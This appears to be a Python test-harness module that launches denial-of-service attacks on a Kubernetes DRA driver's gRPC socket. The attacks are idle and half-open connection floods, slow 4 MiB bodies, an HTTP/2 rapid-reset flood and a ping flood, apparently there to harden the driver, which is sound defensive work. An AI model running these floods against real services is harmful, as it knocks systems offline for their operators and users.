"""Attacks on the gRPC sockets by root of the node, or by a pod that has got hold of one."""

from __future__ import annotations

import struct
from contextlib import AbstractAsyncContextManager
from functools import partial

import trio

from dev.abuse.node import Node
from dev.abuse.wire import PREFACE, connect, crowd, http2, more, read_all, say
from trio_npu_dra.kit.grpc import methods
from trio_npu_dra.kit.grpc._generated.k8s.io.kubelet.pkg.apis.dra.v1 import (
    Claim,
    NodePrepareResourcesRequest,
)

_CALL = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", methods.NODE_PREPARE_RESOURCES_V1.path.encode()),
    (b":authority", b"localhost"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]
_UNKNOWN = bytes(
    NodePrepareResourcesRequest(claims=[Claim(namespace="default", uid="no-uid", name="none")])
)


def idle(node: Node, connections: int) -> AbstractAsyncContextManager[None]:
    """Connections that shake hands and never call."""
    connection = http2()
    connection.initiate_connection()
    return crowd(connections, partial(say, node.service, connection.data_to_send()))


def half_open(node: Node, connections: int) -> AbstractAsyncContextManager[None]:
    """Connections that stop within the preface."""
    return crowd(connections, partial(say, node.service, PREFACE[:10]))


def half_sent(node: Node, calls: int) -> AbstractAsyncContextManager[None]:
    """Calls on connections of their own whose 4 MiB lack the last byte."""

    async def call() -> None:
        size = (4 << 20) - 1024  # with its head it fits into the window
        rest = memoryview(struct.pack(">?I", False, size) + bytes(size - 1))
        connection = http2()
        connection.initiate_connection()
        connection.send_headers(1, _CALL)
        async with await connect(node.service) as stream:
            await stream.send_all(connection.data_to_send())
            while rest:
                while not (room := connection.local_flow_control_window(1)):
                    connection.receive_data(await more(stream))
                part = rest[: min(room, connection.max_outbound_frame_size)]
                connection.send_data(1, bytes(part))
                rest = rest[len(part) :]
                await stream.send_all(connection.data_to_send())
            await read_all(stream)

    return crowd(calls, call)


def rapid_reset(node: Node, calls: int) -> AbstractAsyncContextManager[None]:
    """Connections call for a claim that does not exist and reset the call, so many times in all."""
    each = min(calls, 1_000)  # no more requests fit into a connection's first window
    connection = http2()
    connection.initiate_connection()
    for stream in range(1, 2 * each, 2):
        connection.send_headers(stream, _CALL)
        connection.send_data(stream, struct.pack(">?I", False, len(_UNKNOWN)) + _UNKNOWN)
        connection.reset_stream(stream)
    reset = partial(say, node.service, connection.data_to_send())
    return crowd(calls // each, reset, pause=60)


def pings(node: Node, count: int) -> AbstractAsyncContextManager[None]:
    """One connection sends so many pings and reads no answer."""
    connection = http2()
    connection.initiate_connection()
    data = connection.data_to_send()
    connection.ping(bytes(8))
    data += connection.data_to_send() * count

    async def flood() -> None:
        async with await connect(node.service) as stream:
            await stream.send_all(data)
            await trio.sleep_forever()

    return crowd(1, flood, pause=60)
